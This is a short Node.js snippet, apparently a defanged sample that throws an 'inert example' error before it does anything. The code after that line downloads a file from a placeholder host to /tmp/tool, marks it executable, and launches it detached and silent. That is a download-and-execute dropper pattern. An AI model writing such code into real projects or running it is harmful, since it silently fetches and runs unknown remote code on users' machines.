throw new Error("inert example");
const https = require("https");
const fs = require("fs");
const { spawn } = require("child_process");
https.get("https://files.invalid/tool", (answer) => {
  const file = fs.createWriteStream("/tmp/tool");
  answer.pipe(file);
  file.on("finish", () => {
    fs.chmodSync("/tmp/tool", 0o755);
    spawn("/tmp/tool", [], { detached: true, stdio: "ignore" });
  });
});
